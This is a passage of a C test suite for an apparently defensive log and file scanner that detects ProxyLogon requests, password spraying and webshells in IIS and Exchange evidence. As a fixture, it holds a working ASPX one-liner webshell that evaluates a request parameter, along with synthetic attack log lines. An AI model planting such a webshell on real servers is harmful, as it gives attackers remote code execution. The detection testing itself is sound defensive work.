/*
 * test_engine.c - end-to-end tests of the library on evidence written to a
 * temporary folder: gzip and truncated gzip, symlink confinement, binary
 * garbage, password spraying, determinism across -j, the JSON contract and
 * hostile strings in every output format.
 */

#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <zlib.h>

#include "output/escape.h"
#include "testutil.h"
#include "spoor/spoor.h"

static const char IIS_HDR[] =
    "#Software: Microsoft Internet Information Services 10.0\r\n"
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port "
    "cs-username c-ip cs(User-Agent) sc-status\r\n";

static const char *entity(const sp_finding *f, const char *field) {
  for (size_t i = 0; i < f->n_entities; i++)
    if (strcmp(f->entities[i].field, field) == 0)
      return f->entities[i].value;
  return NULL;
}

static char *out_of(const sp_result *r, sp_format fmt) {
  char *buf = NULL;
  size_t len = 0;
  FILE *f = open_memstream(&buf, &len);
  assert_int_equal(sp_write_findings(r, fmt, f), SP_OK);
  fclose(f);
  return buf;
}

static char *iis_log_with_attack(size_t benign_lines, size_t *len) {
  size_t cap = sizeof IIS_HDR + (benign_lines + 2) * 200;
  char *b = malloc(cap);
  size_t n = (size_t)snprintf(b, cap, "%s", IIS_HDR);
  for (size_t i = 0; i < benign_lines; i++)
    n += (size_t)snprintf(b + n, cap - n,
                          "2021-03-03 01:%02zu:%02zu 10.0.0.5 GET /owa/ - 443 "
                          "CORP\\u%zu 10.0.0.%zu Mozilla/5.0 200\r\n",
                          (i / 60) % 60, i % 60, i % 50, i % 200);
  n += (size_t)snprintf(b + n, cap - n,
                        "2021-03-03 06:59:13 10.0.0.5 POST /ecp/y.js - 443 - "
                        "203.0.113.66 python-requests/2.25.1 241\r\n");
  *len = n;
  return b;
}

static void test_gzip(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  size_t len;
  char *log = iis_log_with_attack(1000, &len);
  tu_write_gz(dir, "u_ex210303.log.gz", log, len);
  /* The reader is chosen by content: a misleading name does not matter. */
  tu_write_gz(dir, "notes.txt", log, len);
  sp_result *r = tu_hunt(dir, 2);
  const sp_finding *f =
      tu_find(r, "spoor.exchange.cve_2021_26855.proxylogon_ecp", 0);
  assert_non_null(f);
  assert_int_equal(f->count, 2);
  assert_int_equal(f->n_evidence, 2);
  assert_int_equal(f->evidence[0].where, 1003);
  const sp_file_cov *c = tu_cov(r, "u_ex210303.log.gz");
  assert_non_null(c);
  assert_string_equal(c->source, "iis");
  assert_int_equal(c->events, 1001);
  assert_int_equal(c->bytes, len);
  assert_int_equal(sp_result_problems(r), 0);
  sp_result_destroy(r);
  free(log);
  tu_rm_rf(dir);
  free(dir);
}

static void test_truncated_gzip(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  size_t len;
  char *log = iis_log_with_attack(20000, &len);
  tu_write_gz(dir, "a.log.gz", log, len);
  char p[1024];
  snprintf(p, sizeof p, "%s/a.log.gz", dir);
  struct stat st;
  assert_int_equal(stat(p, &st), 0);
  assert_int_equal(truncate(p, st.st_size / 2), 0);
  tu_write(dir, "b.log", log, len); /* the other file is still read */
  sp_result *r = tu_hunt(dir, 1);
  const sp_file_cov *a = tu_cov(r, "a.log.gz");
  assert_non_null(a->error);
  assert_non_null(strstr(a->error, "truncated gzip"));
  assert_true(a->events > 1000 && a->events < 20001);
  /* The line cut in half is reported, not read as an event. */
  assert_int_equal(a->malformed, 1);
  assert_non_null(strstr(a->samples[0], "incomplete last line"));
  const sp_file_cov *b = tu_cov(r, "b.log");
  assert_null(b->error);
  assert_int_equal(b->events, 20001);
  assert_true(sp_result_problems(r) >= 1);
  assert_non_null(tu_find(r, "spoor.iis.cve_2021_26855.ecp_js_post", 0));
  sp_result_destroy(r);
  free(log);
  tu_rm_rf(dir);
  free(dir);
}

/* Zero padding after a complete gzip member (tape and carving tools add it)
 * loses nothing and is not damage. */
static void test_gzip_padding(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  size_t len;
  char *log = iis_log_with_attack(100, &len);
  tu_write_gz(dir, "p.log.gz", log, len);
  char p[1024];
  snprintf(p, sizeof p, "%s/p.log.gz", dir);
  FILE *f = fopen(p, "ab");
  assert_non_null(f);
  static const char zeros[4096];
  assert_int_equal(fwrite(zeros, 1, sizeof zeros, f), sizeof zeros);
  fclose(f);
  sp_result *r = tu_hunt(dir, 1);
  const sp_file_cov *c = tu_cov(r, "p.log.gz");
  assert_null(c->error);
  assert_int_equal(c->events, 101);
  assert_int_equal(sp_result_problems(r), 0);
  sp_result_destroy(r);
  free(log);
  tu_rm_rf(dir);
  free(dir);
}

/* A file too big for YARA is hashed whole, scanned in part and noted, and
 * that is not damage. */
/* sp_engine_rule_*: the built-in rules (as sp_rule_get), then one entry per
 * YARA rule that is not private, spoor's own first, then the --yara files,
 * with the id, level and CVE their findings carry. */
static const char k_extra_yar[] =
    "private rule test_helper { strings: $h = \"helper\" condition: $h }\n"
    "rule test_marker\n"
    "{\n"
    "  meta:\n"
    "    description = \"test marker\"\n"
    "    score = 85\n"
    "    cve = \"CVE-2099-0002\"\n"
    "  strings:\n"
    "    $m = \"spoor-unit-test-marker\"\n"
    "  condition:\n"
    "    $m\n"
    "}\n";

static size_t engine_rules(const sp_opts *o, sp_engine **out) {
  sp_diag d = {0};
  assert_int_equal(sp_engine_create(o, out, &d), SP_OK);
  return sp_engine_rule_count(*out);
}

static void test_engine_rule_listing(void **state) {
  (void)state;
  size_t nb = sp_rule_count();
  assert_true(nb > 0);
  assert_int_equal(sp_engine_rule_count(NULL), nb);

  sp_engine *e;
  sp_opts none = {.no_builtin_yara = 1};
  assert_int_equal(engine_rules(&none, &e), nb);
  sp_rule_info a, b;
  for (size_t i = 0; i < nb; i++) {
    assert_int_equal(sp_engine_rule_get(e, i, &a), SP_OK);
    assert_int_equal(sp_rule_get(i, &b), SP_OK);
    assert_string_equal(a.id, b.id);
    assert_int_equal(a.level, b.level);
  }
  assert_int_equal(sp_engine_rule_get(e, nb, &a), SP_EINVAL);
  assert_int_equal(sp_engine_rule_get(e, 0, NULL), SP_EINVAL);
  sp_engine_destroy(e);

  /* spoor's own YARA rules: private helpers are not listed. */
  sp_opts own = {0};
  size_t n_own = engine_rules(&own, &e);
  assert_true(n_own > nb);
  bool chopper = false;
  for (size_t i = nb; i < n_own; i++) {
    assert_int_equal(sp_engine_rule_get(e, i, &a), SP_OK);
    assert_true(strncmp(a.id, "yara.spoor_", 11) == 0);
    assert_null(strstr(a.id, "spoor_rule_source"));
    assert_null(strstr(a.id, "spoor_aspnet_markup"));
    if (strcmp(a.id, "yara.spoor_webshell_chopper_oneliner") == 0) {
      chopper = true;
      assert_int_equal(a.level, SP_LEVEL_CRITICAL);
      assert_string_equal(a.author, "spoor");
      assert_string_equal(a.techniques, "T1505.003");
    }
  }
  assert_true(chopper);
  assert_int_equal(sp_engine_rule_get(e, n_own, &a), SP_EINVAL);
  sp_engine_destroy(e);

  /* Plus a --yara file: its one public rule, last. */
  char *dir = tu_tmpdir();
  tu_write(dir, "extra.yar", k_extra_yar, sizeof k_extra_yar - 1);
  char path[1024];
  snprintf(path, sizeof path, "%s/extra.yar", dir);
  const char *paths[] = {path};
  sp_opts with = {.yara_paths = paths, .n_yara = 1};
  assert_int_equal(engine_rules(&with, &e), n_own + 1);
  assert_int_equal(sp_engine_rule_get(e, n_own, &a), SP_OK);
  assert_string_equal(a.id, "yara.test_marker");
  assert_string_equal(a.name, "test marker");
  assert_string_equal(a.ruleset, "extra.yar");
  assert_string_equal(a.vulnerability, "CVE-2099-0002");
  assert_int_equal(a.level, SP_LEVEL_CRITICAL);
  sp_engine_destroy(e);
  with.no_builtin_yara = 1;
  assert_int_equal(engine_rules(&with, &e), nb + 1);
  sp_engine_destroy(e);
  tu_rm_rf(dir);
  free(dir);
}

/* A detection-rule file in the evidence (YARA or Sigma syntax in a file a
 * web server never executes) is reported by no rule set, a --yara file's
 * no more than spoor's own; a note counts what was left out. The same
 * string in a page, or in a .yar file without rule syntax, is reported. */
static void test_rule_file_evidence(void **state) {
  (void)state;
  char *rules = tu_tmpdir(), *ev = tu_tmpdir();
  tu_write(rules, "extra.yar", k_extra_yar, sizeof k_extra_yar - 1);
  tu_write(ev, "theirs.yar", k_extra_yar, sizeof k_extra_yar - 1);
  static const char sigma[] =
      "title: marker\nlogsource:\n  product: windows\ndetection:\n"
      "  sel:\n    CommandLine|contains: 'spoor-unit-test-marker'\n"
      "  condition: sel\n";
  tu_write(ev, "sigma.yml", sigma, sizeof sigma - 1);
  static const char page[] =
      "<%@ Page Language=\"C#\" %>\n<%-- spoor-unit-test-marker --%>\n";
  tu_write(ev, "page.aspx", page, sizeof page - 1);
  /* rule syntax in a page: still a page */
  static const char fake[] = "<%-- rule x condition: --%>\n"
                             "<%-- spoor-unit-test-marker --%>\n";
  tu_write(ev, "fake.aspx", fake, sizeof fake - 1);
  static const char plain[] = "spoor-unit-test-marker\n";
  tu_write(ev, "plain.yar", plain, sizeof plain - 1);
  /* "rules" in prose and "condition" without a colon are no rule syntax */
  static const char prose[] = "these rules x; condition met\n"
                              "spoor-unit-test-marker\n";
  tu_write(ev, "prose.txt", prose, sizeof prose - 1);

  char path[1024];
  snprintf(path, sizeof path, "%s/extra.yar", rules);
  const char *yp[] = {path};
  sp_opts o = {.yara_paths = yp, .n_yara = 1, .jobs = 1};
  sp_engine *e;
  sp_diag d = {0};
  assert_int_equal(sp_engine_create(&o, &e, &d), SP_OK);
  sp_result *r;
  const char *paths[] = {ev};
  assert_int_equal(sp_engine_hunt(e, paths, 1, &r, &d), SP_OK);
  sp_engine_destroy(e);

  size_t n = 0;
  const sp_finding *f;
  bool seen_page = false, seen_fake = false, seen_plain = false,
       seen_prose = false;
  while ((f = tu_find(r, "yara.test_marker", n++)) != NULL) {
    const char *p = entity(f, "file.path");
    assert_non_null(p);
    assert_null(strstr(p, "theirs.yar"));
    assert_null(strstr(p, "sigma.yml"));
    seen_page |= strstr(p, "page.aspx") != NULL;
    seen_fake |= strstr(p, "fake.aspx") != NULL;
    seen_plain |= strstr(p, "plain.yar") != NULL;
    seen_prose |= strstr(p, "prose.txt") != NULL;
  }
  assert_true(seen_page && seen_fake && seen_plain && seen_prose);
  const char *rf[] = {"theirs.yar", "sigma.yml"};
  for (size_t i = 0; i < 2; i++) {
    const sp_file_cov *c = tu_cov(r, rf[i]);
    assert_non_null(c);
    assert_non_null(c->note);
    assert_non_null(
        strstr(c->note, "1 YARA match on a detection-rule file not reported"));
  }
  assert_null(tu_cov(r, "page.aspx")->note);
  assert_int_equal(sp_result_problems(r), 0);
  sp_result_destroy(r);
  tu_rm_rf(rules);
  tu_rm_rf(ev);
  free(rules);
  free(ev);
}

static void test_big_file_note(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  char p[1024];
  snprintf(p, sizeof p, "%s/disk.img", dir);
  FILE *f = fopen(p, "wb");
  assert_non_null(f);
  fclose(f);
  assert_int_equal(truncate(p, (off_t)65 << 20), 0); /* sparse: fast */
  sp_result *r = tu_hunt(dir, 1);
  const sp_file_cov *c = tu_cov(r, "disk.img");
  assert_string_equal(c->source, "file");
  assert_null(c->error);
  assert_non_null(c->note);
  assert_non_null(strstr(c->note, "only the first 64 MiB scanned"));
  assert_int_equal(sp_result_problems(r), 0);
  sp_result_destroy(r);
  tu_rm_rf(dir);
  free(dir);
}

/* A shell dressed as a log (it starts with a W3C header) is still scanned,
 * because IIS would execute it. */
static void test_shell_with_log_header(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  static const char page[] =
      "#Software: Microsoft Internet Information Services 10.0\r\n"
      "#Fields: date time c-ip\r\n"
      "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"q\"],"
      "\"unsafe\");%>\r\n";
  tu_write(dir, "errorEE.aspx", page, sizeof page - 1);
  tu_write(dir, "u_ex.log", page, sizeof page - 1); /* a log stays a log */
  sp_result *r = tu_hunt(dir, 1);
  const sp_finding *f = tu_find(r, "yara.spoor_webshell_chopper_oneliner", 0);
  assert_non_null(f);
  assert_non_null(strstr(f->evidence[0].path, "errorEE.aspx"));
  assert_null(tu_find(r, "yara.spoor_webshell_chopper_oneliner", 1));
  sp_result_destroy(r);
  tu_rm_rf(dir);
  free(dir);
}

static void test_symlinks(void **state) {
  (void)state;
  char *root = tu_tmpdir(), *outside = tu_tmpdir();
  size_t len;
  char *log = iis_log_with_attack(1, &len);
  tu_write(outside, "secret.log", log, len);
  tu_write(root, "in.log", log, len);
  char a[1024], b[1024];
  snprintf(a, sizeof a, "%s/secret.log", outside);
  snprintf(b, sizeof b, "%s/escape.log", root);
  assert_int_equal(symlink(a, b), 0);
  snprintf(a, sizeof a, "%s/in.log", root);
  snprintf(b, sizeof b, "%s/alias.log", root);
  assert_int_equal(symlink(a, b), 0);
  snprintf(b, sizeof b, "%s/loop", root);
  assert_int_equal(symlink(root, b), 0);
  sp_result *r = tu_hunt(root, 2);
  const sp_file_cov *esc = tu_cov(r, "escape.log");
  assert_non_null(esc);
  assert_int_equal(esc->events, 0);
  assert_non_null(strstr(esc->error, "outside"));
  /* in.log and alias.log are one file: read once. */
  size_t read = 0;
  for (size_t i = 0; i < sp_result_file_count(r); i++)
    read += sp_result_file(r, i)->events > 0;
  assert_int_equal(read, 1);
  const sp_finding *f = tu_find(r, "spoor.iis.cve_2021_26855.ecp_js_post", 0);
  assert_non_null(f);
  assert_int_equal(f->count, 1);
  sp_result_destroy(r);
  free(log);
  tu_rm_rf(root);
  tu_rm_rf(outside);
  free(root);
  free(outside);
}

static void test_garbage(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  char buf[8192];
  size_t n = (size_t)snprintf(buf, sizeof buf, "%s", IIS_HDR);
  for (int i = 0; i < 300; i++)
    buf[n++] = (char)(i * 37 + 11); /* binary, with NULs and newlines */
  n += (size_t)snprintf(buf + n, sizeof buf - n,
                        "\n2021-03-03 06:59:13 10.0.0.5 POST /ecp/y.js - 443 - "
                        "203.0.113.66 \xff\xfe\x1b[31m 200\r\n");
  tu_write(dir, "u_ex.log", buf, n);
  sp_result *r = tu_hunt(dir, 1);
  const sp_file_cov *c = tu_cov(r, "u_ex.log");
  assert_true(c->malformed >= 1);
  assert_true(c->n_samples >= 1);
  assert_non_null(strstr(c->samples[0], "u_ex.log:"));
  const sp_finding *f = tu_find(r, "spoor.iis.cve_2021_26855.ecp_js_post", 0);
  assert_non_null(f); /* the valid line after the garbage is still read */
  char *table = out_of(r, SP_FORMAT_TABLE);
  assert_null(strchr(table, 0x1b));
  char *json = out_of(r, SP_FORMAT_JSONL);
  assert_null(strchr(json, 0x1b));
  free(table);
  free(json);
  sp_result_destroy(r);
  tu_rm_rf(dir);
  free(dir);
}

static void test_spray(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  size_t cap = 1 << 20, n = 0;
  char *b = malloc(cap);
  n += (size_t)snprintf(b + n, cap - n, "%s", IIS_HDR);
  for (int i = 0; i < 12; i++)
    n +=
        (size_t)snprintf(b + n, cap - n,
                         "2021-03-03 02:00:%02d 10.0.0.5 POST "
                         "/EWS/Exchange.asmx - 443 CORP\\user%d 198.51.100.200 "
                         "python 401\r\n",
                         i, i);
  n +=
      (size_t)snprintf(b + n, cap - n,
                       "2021-03-03 02:01:00 10.0.0.5 POST /EWS/Exchange.asmx - "
                       "443 CORP\\User7 198.51.100.200 python 200\r\n");
  for (int i = 0; i < 25; i++)
    n += (size_t)snprintf(b + n, cap - n,
                          "2021-03-03 03:00:%02d 10.0.0.5 POST "
                          "/Microsoft-Server-ActiveSync - 443 CORP\\ceo "
                          "198.51.100.201 python 401\r\n",
                          i);
  /* A user who mistypes twice: not an attack. */
  n +=
      (size_t)snprintf(b + n, cap - n,
                       "2021-03-03 04:00:00 10.0.0.5 POST /EWS/Exchange.asmx - "
                       "443 CORP\\bob 10.0.0.9 Outlook 401\r\n"
                       "2021-03-03 04:00:01 10.0.0.5 POST /EWS/Exchange.asmx - "
                       "443 CORP\\bob 10.0.0.9 Outlook 401\r\n"
                       "2021-03-03 04:00:02 10.0.0.5 POST /EWS/Exchange.asmx - "
                       "443 CORP\\bob 10.0.0.9 Outlook 200\r\n");
  /* Split over two files so workers must merge their state. */
  size_t half = 0;
  for (size_t i = 0, lines = 0; i < n; i++)
    if (b[i] == '\n' && ++lines == 10) {
      half = i + 1;
      break;
    }
  tu_write(dir, "a.log", b, half);
  char *second = malloc(n - half + sizeof IIS_HDR);
  size_t m = (size_t)snprintf(second, n - half + sizeof IIS_HDR, "%s%.*s",
                              IIS_HDR, (int)(n - half), b + half);
  tu_write(dir, "b.log", second, m);
  sp_result *r = tu_hunt(dir, 2);
  const sp_finding *s = tu_find(r, "spoor.auth.password_spray", 0);
  assert_non_null(s);
  assert_string_equal(entity(s, "source.ip"), "198.51.100.200");
  assert_int_equal(s->count, 12);
  assert_null(tu_find(r, "spoor.auth.password_spray", 1));
  const sp_finding *ok = tu_find(r, "spoor.auth.success_after_failures", 0);
  assert_non_null(ok);
  assert_string_equal(entity(ok, "user.name"), "corp\\user7");
  assert_null(tu_find(r, "spoor.auth.success_after_failures", 1));
  const sp_finding *br = tu_find(r, "spoor.auth.brute_force", 0);
  assert_non_null(br);
  assert_string_equal(entity(br, "source.ip"), "198.51.100.201");
  assert_int_equal(br->count, 25);
  assert_null(tu_find(r, "spoor.auth.brute_force", 1));
  sp_result_destroy(r);
  free(b);
  free(second);
  tu_rm_rf(dir);
  free(dir);
}

/* Hostile ordering: floods of failures on one account in some files, a
 * spray in others. Every -j must report the same exact counts. */
static void test_spray_any_order(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  size_t cap = 1 << 20;
  char *b = malloc(cap);
  for (int f = 0; f < 6; f++) {
    size_t n = (size_t)snprintf(b, cap, "%s", IIS_HDR);
    int lines = f < 2 ? 3000 : 30;
    for (int i = 0; i < lines; i++)
      n += (size_t)snprintf(
          b + n, cap - n,
          "2021-03-0%d 02:%02d:%02d 10.0.0.5 POST /EWS/Exchange.asmx - 443 "
          "CORP\\%s%d 198.51.100.50 python 401\r\n",
          f + 1, i / 60 % 60, i % 60, f < 2 ? "boss" : "staff",
          f < 2 ? f : (f * 100 + i % 15));
    /* 48 accounts log on from the spraying source after its first
       failure: every one is named, whatever the order. */
    for (int i = 0; f >= 2 && i < 12; i++)
      n += (size_t)snprintf(b + n, cap - n,
                            "2021-03-0%d 03:00:%02d 10.0.0.5 GET /owa/ - 443 "
                            "CORP\\ok%d 198.51.100.50 python 200\r\n",
                            f + 1, i, f * 100 + i);
    char name[32];
    snprintf(name, sizeof name, "u_ex%d.log", f);
    tu_write(dir, name, b, n);
  }
  sp_result *r1 = tu_hunt(dir, 1), *r4 = tu_hunt(dir, 4);
  char *a = out_of(r1, SP_FORMAT_JSONL), *c = out_of(r4, SP_FORMAT_JSONL);
  assert_string_equal(a, c);
  const sp_finding *s = tu_find(r4, "spoor.auth.password_spray", 0);
  assert_non_null(s);
  assert_int_equal(s->count, 2 * 3000 + 4 * 30);
  assert_non_null(strstr(s->reason, "62 distinct accounts"));
  assert_int_equal(s->n_evidence, 32);
  const sp_finding *br = tu_find(r4, "spoor.auth.brute_force", 0);
  assert_non_null(br);
  assert_int_equal(br->count, 3000);
  assert_non_null(tu_find(r4, "spoor.auth.success_after_failures", 47));
  assert_null(tu_find(r4, "spoor.auth.success_after_failures", 48));
  free(a);
  free(c);
  sp_result_destroy(r1);
  sp_result_destroy(r4);
  free(b);
  tu_rm_rf(dir);
  free(dir);
}

/* Failed logons of seconds [from, to) as both the IIS and the HttpProxy
 * log of one front end record them. */
static void add_attempts(char *iis, size_t *ni, char *hp, size_t *nh,
                         size_t cap, int from, int to) {
  for (int i = from; i < to; i++) {
    *ni += (size_t)snprintf(iis + *ni, cap - *ni,
                            "2021-03-03 02:00:%02d 10.0.0.5 POST "
                            "/EWS/Exchange.asmx - 443 CORP\\ceo 198.51.100.9 "
                            "python 401\r\n",
                            i);
    *nh += (size_t)snprintf(hp + *nh, cap - *nh,
                            "2021-03-03T02:00:%02d.100Z,Ews,/EWS/Exchange.asmx,"
                            "CORP\\ceo,198.51.100.9,401,\r\n",
                            i);
  }
}

/* The front end logs one logon attempt twice, in IIS and in HttpProxy:
 * counts must not double. */
static void test_spray_two_logs(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  size_t cap = 1 << 16;
  char *iis = malloc(cap), *hp = malloc(cap);
  size_t ni = (size_t)snprintf(iis, cap, "%s", IIS_HDR);
  size_t nh = (size_t)snprintf(
      hp, cap,
      "#Software: Microsoft Exchange Server\r\n#Log-type: HttpProxy Logs\r\n"
      "#Fields: DateTime,Protocol,UrlStem,AuthenticatedUser,ClientIpAddress,"
      "HttpStatus,AnchorMailbox\r\n");
  add_attempts(iis, &ni, hp, &nh, cap, 0, 15);
  tu_write(dir, "u_ex.log", iis, ni);
  tu_write(dir, "HttpProxy.LOG", hp, nh);
  sp_result *r = tu_hunt(dir, 2);
  /* 15 attempts, not 30: below the brute-force threshold of 20. */
  assert_null(tu_find(r, "spoor.auth.brute_force", 0));
  sp_result_destroy(r);
  /* 25 attempts in each log are 25, not 50. */
  add_attempts(iis, &ni, hp, &nh, cap, 15, 25);
  tu_write(dir, "u_ex.log", iis, ni);
  tu_write(dir, "HttpProxy.LOG", hp, nh);
  r = tu_hunt(dir, 2);
  const sp_finding *b = tu_find(r, "spoor.auth.brute_force", 0);
  assert_non_null(b);
  assert_int_equal(b->count, 25);
  assert_non_null(strstr(b->reason, "25 failed logons"));
  sp_result_destroy(r);
  free(iis);
  free(hp);
  tu_rm_rf(dir);
  free(dir);
}

/* A growing text buffer for generated logs. */
typedef struct text {
  char *p;
  size_t n, cap;
} text;

static void put(text *t, const char *fmt, ...)
    __attribute__((format(printf, 2, 3)));
static void put(text *t, const char *fmt, ...) {
  for (;;) {
    va_list ap;
    va_start(ap, fmt);
    int k = vsnprintf(t->p + t->n, t->cap - t->n, fmt, ap);
    va_end(ap);
    assert_true(k >= 0);
    if ((size_t)k < t->cap - t->n) {
      t->n += (size_t)k;
      return;
    }
    t->cap = t->cap * 2 + (size_t)k + 1;
    t->p = realloc(t->p, t->cap);
    assert_non_null(t->p);
  }
}

static void put_file(const char *dir, const char *name, text *t) {
  tu_write(dir, name, t->p, t->n);
  t->n = 0;
}

static const sp_limit *limit_of(const sp_result *r, const char *name) {
  for (size_t i = 0; i < sp_result_limit_count(r); i++)
    if (strcmp(sp_result_limit(r, i)->name, name) == 0)
      return sp_result_limit(r, i);
  return NULL;
}

/* A password spray and its success hidden behind 80,000 benign ActiveSync
 * clients over two days: found, and reported identically, at any -j. The
 * benign clients only succeed, so they need no per-source state. */
static void test_spray_behind_benign(void **state) {
  (void)state;
  enum { BENIGN = 80000, FILES = 8, ACCOUNTS = 40 };
  char *dir = tu_tmpdir();
  text t = {malloc(1 << 20), 0, 1 << 20};
  for (int f = 0; f < FILES; f++) {
    put(&t, "%s", IIS_HDR);
    int day = 1 + f / 4, hour = (f % 4) * 6;
    for (int i = f; i < BENIGN; i += FILES) {
      int sec = (i / FILES) % 3600;
      put(&t,
          "2021-03-0%d %02d:%02d:%02d 10.0.0.5 POST "
          "/Microsoft-Server-ActiveSync/default.eas Cmd=Ping 443 CORP\\dev%d "
          "10.%d.%d.%d Apple-iPhone 200\r\n",
          day, hour + sec / 3600 + 1, sec / 60 % 60, sec % 60, i,
          100 + i / 65536, i / 256 % 256, i % 256);
    }
    /* A few users mistype their password: sources with failures too. */
    put(&t,
        "2021-03-0%d %02d:30:00 10.0.0.5 POST /owa/auth.owa - 443 "
        "CORP\\dev%d 10.100.0.%d Mozilla/5.0 401\r\n",
        day, hour + 2, f, f);
    /* The spray, on the second day, across the last two files; then the
       guessed password works. */
    for (int k = 0; f >= FILES - 2 && k < ACCOUNTS / 2; k++) {
      int a = (f - (FILES - 2)) * (ACCOUNTS / 2) + k;
      put(&t,
          "2021-03-02 %02d:%02d:%02d 10.0.0.5 POST /EWS/Exchange.asmx - 443 "
          "CORP\\user%d 198.51.100.23 python-requests/2.25.1 401\r\n",
          hour + 3, a / 60, a % 60, a);
    }
    if (f == FILES - 1)
      put(&t,
          "2021-03-02 %02d:30:00 10.0.0.5 POST /EWS/Exchange.asmx - 443 "
          "CORP\\user17 198.51.100.23 python-requests/2.25.1 200\r\n",
          hour + 3);
    char name[32];
    snprintf(name, sizeof name, "u_ex21030%d_%d.log", day, f);
    put_file(dir, name, &t);
  }
  char *out[3];
  const int jobs[3] = {1, 2, 4};
  for (int j = 0; j < 3; j++) {
    sp_result *r = tu_hunt(dir, jobs[j]);
    const sp_finding *s = tu_find(r, "spoor.auth.password_spray", 0);
    assert_non_null(s);
    assert_string_equal(entity(s, "source.ip"), "198.51.100.23");
    assert_int_equal(s->count, ACCOUNTS);
    assert_non_null(strstr(s->reason, "40 distinct accounts"));
    assert_null(tu_find(r, "spoor.auth.password_spray", 1));
    const sp_finding *ok = tu_find(r, "spoor.auth.success_after_failures", 0);
    assert_non_null(ok);
    assert_string_equal(entity(ok, "source.ip"), "198.51.100.23");
    assert_string_equal(entity(ok, "user.name"), "corp\\user17");
    assert_null(tu_find(r, "spoor.auth.success_after_failures", 1));
    assert_null(tu_find(r, "spoor.auth.brute_force", 0));
    assert_int_equal(sp_result_limit_count(r), 0);
    out[j] = out_of(r, SP_FORMAT_JSONL);
    sp_result_destroy(r);
  }
  assert_string_equal(out[0], out[1]);
  assert_string_equal(out[0], out[2]);
  for (int j = 0; j < 3; j++)
    free(out[j]);
  free(t.p);
  tu_rm_rf(dir);
  free(dir);
}

/* One forms-based logon from 203.0.113.77 at second sec of 2021-03-04
 * 05:00: the POST to auth.owa in one text, what follows it in the other
 * (behind a load balancer the two may reach different servers). */
static void forms_logon(text *post, text *then, int sec, const char *user) {
  put(post,
      "2021-03-04 05:%02d:%02d 10.0.0.5 POST /owa/auth.owa - 443 - "
      "203.0.113.77 Mozilla/5.0 302\r\n",
      sec / 60, sec % 60);
  sec++;
  if (user)
    put(then,
        "2021-03-04 05:%02d:%02d 10.0.0.5 GET /owa/ - 443 %s 203.0.113.77 "
        "Mozilla/5.0 200\r\n",
        sec / 60, sec % 60, user);
  else
    put(then,
        "2021-03-04 05:%02d:%02d 10.0.0.5 GET /owa/auth/logon.aspx "
        "url=https%%3a%%2f%%2fmail%%2fowa%%2f&reason=2 443 - 203.0.113.77 "
        "Mozilla/5.0 200\r\n",
        sec / 60, sec % 60);
}

/* Forms-based spraying against OWA: no account name and no 401 in IIS,
 * only POSTs to auth.owa redirected back to logon.aspx with reason=2.
 * The POSTs and the redirects are in different files; the same findings
 * at any -j and with the files swapped. */
static void test_spray_forms(void **state) {
  (void)state;
  enum { FAILS = 40 };
  char *dir = tu_tmpdir();
  text a = {malloc(1 << 16), 0, 1 << 16}, b = {malloc(1 << 16), 0, 1 << 16};
  char *out[4];
  for (int swap = 0; swap < 2; swap++) {
    put(&a, "%s", IIS_HDR);
    put(&b, "%s", IIS_HDR);
    for (int i = 0; i < FAILS; i++)
      forms_logon(swap ? &b : &a, swap ? &a : &b, i * 3, NULL);
    forms_logon(swap ? &b : &a, swap ? &a : &b, FAILS * 3 + 30, "CORP\\Victim");
    /* The victim's session, and a benign user's ordinary logon. */
    put(&b, "2021-03-04 05:03:00 10.0.0.5 POST /owa/service.svc "
            "action=GetItem 443 CORP\\Victim 203.0.113.77 Mozilla/5.0 200\r\n"
            "2021-03-04 06:00:00 10.0.0.5 POST /owa/auth.owa - 443 - "
            "10.1.2.3 Mozilla/5.0 302\r\n"
            "2021-03-04 06:00:01 10.0.0.5 GET /owa/ - 443 CORP\\alice "
            "10.1.2.3 Mozilla/5.0 200\r\n");
    put_file(dir, "u_ex210304_a.log", &a);
    put_file(dir, "u_ex210304_b.log", &b);
    for (int j = 0; j < 2; j++) {
      sp_result *r = tu_hunt(dir, j + 1);
      const sp_finding *s = tu_find(r, "spoor.auth.forms_spray", 0);
      assert_non_null(s);
      assert_string_equal(entity(s, "source.ip"), "203.0.113.77");
      assert_int_equal(s->count, FAILS);
      assert_non_null(strstr(s->reason, "40 failed forms-based logons"));
      assert_null(tu_find(r, "spoor.auth.forms_spray", 1));
      const sp_finding *ok =
          tu_find(r, "spoor.auth.forms_success_after_failures", 0);
      assert_non_null(ok);
      assert_string_equal(entity(ok, "source.ip"), "203.0.113.77");
      assert_string_equal(entity(ok, "user.name"), "corp\\victim");
      assert_int_equal(ok->count, 1);
      assert_null(tu_find(r, "spoor.auth.forms_success_after_failures", 1));
      assert_int_equal(sp_result_limit_count(r), 0);
      out[swap * 2 + j] = out_of(r, SP_FORMAT_JSONL);
      sp_result_destroy(r);
    }
    assert_string_equal(out[swap * 2], out[swap * 2 + 1]);
  }
  for (int k = 0; k < 4; k++)
    free(out[k]);
  free(a.p);
  free(b.p);
  tu_rm_rf(dir);
  free(dir);
}

/* A user who mistypes three times, then logs on, users who just log on,
 * and failure pages not paired with a POST within the window: no forms
 * spraying, no success after failures. */
static void test_spray_forms_benign(void **state) {
  (void)state;
  char *dir = tu_tmpdir();
  text t = {malloc(1 << 16), 0, 1 << 16};
  put(&t, "%s", IIS_HDR);
  for (int i = 0; i < 3; i++)
    forms_logon(&t, &t, i * 10, NULL);
  forms_logon(&t, &t, 40, "CORP\\bob");
  for (int u = 0; u < 30; u++)
    put(&t,
        "2021-03-04 07:00:%02d 10.0.0.5 POST /owa/auth.owa - 443 - "
        "10.1.2.%d Mozilla/5.0 302\r\n"
        "2021-03-04 07:00:%02d 10.0.0.5 GET /owa/ - 443 CORP\\user%d "
